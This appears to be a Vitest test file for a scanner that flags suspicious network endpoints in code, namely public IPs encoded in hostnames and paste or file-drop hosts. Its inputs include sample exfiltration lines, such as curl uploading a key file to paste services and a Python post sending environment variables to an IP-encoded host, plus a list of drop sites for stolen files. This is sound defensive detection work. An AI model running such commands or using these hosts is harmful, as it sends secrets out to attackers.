import { describe, expect, it } from 'vitest';
import { ipInHostname, isSuspiciousEndpoint, publicIpUrl } from '../../../src/ecosystems/code/network-endpoints.js';

describe('network endpoints', () => {
  it('finds a public IP spelled in a host name: wildcard DNS, throwaway hosting, cloud machines', () => {
    expect(ipInHostname('curl -d x https://bold-dhawan.45-139-104-115.plesk.page/a')).toBe('bold-dhawan.45-139-104-115.plesk.page');
    expect(ipInHostname('fetch("http://198-51-100-23.sslip.io/c")')).toBe('198-51-100-23.sslip.io');
    expect(ipInHostname('ws://app.203.0.113.9.nip.io:8080')).toBe('app.203.0.113.9.nip.io');
    expect(ipInHostname('https://ec2-3-91-22-4.compute-1.amazonaws.com/x')).toBe('ec2-3-91-22-4.compute-1.amazonaws.com');
    expect(isSuspiciousEndpoint('requests.post("https://x.45-139-104-115.plesk.page", data=env)')).toBe(true);
  });

  it('leaves private addresses, versions, out-of-range numbers, paths and bare dotted IPs (publicIpUrl reads those) alone', () => {
    expect(ipInHostname('http://10-0-0-5.nip.io/register')).toBeNull();
    expect(ipInHostname('http://192-168-1-20.local.example/x')).toBeNull();
    expect(ipInHostname('https://v1-2-3.preview.example.com/hook')).toBeNull();
    expect(ipInHostname('https://build-2024-11-27-1530.ci.example.com')).toBeNull();
    expect(ipInHostname('https://api.example.com/v1/1.2.3.4/resolve')).toBeNull();
    expect(ipInHostname('http://45.77.12.9/x')).toBeNull();
    expect(publicIpUrl('http://45.77.12.9/x')).toBe('http://45.77.12.9');
    expect(isSuspiciousEndpoint('https://registry.npmjs.org/left-pad')).toBe(false);
  });
});

describe('paste and anonymous file-drop hosts', () => {
  it('names the paste services and file drops that stolen files are uploaded to', () => {
    for (const url of ['https://paste.rs/', 'http://ix.io', 'https://sprunge.us', 'https://bpa.st/api/v1/paste', 'https://catbox.moe/user/api.php', 'https://litterbox.catbox.moe/resources/internals/api.php', 'https://store1.gofile.io/uploadFile', 'https://bashupload.com/', 'https://tmpfiles.org/api/v1/upload', 'https://oshi.at']) {
      expect(isSuspiciousEndpoint(`curl -F "f=@key" ${url}`)).toBe(true);
    }
  });
  it('leaves look-alike words and file names alone', () => {
    for (const text of ['https://matrix.io/docs', 'bash ./scripts/temp.sh', 'https://six.io', 'https://catboxmoe.example.org']) {
      expect(isSuspiciousEndpoint(text)).toBe(false);
    }
  });
});
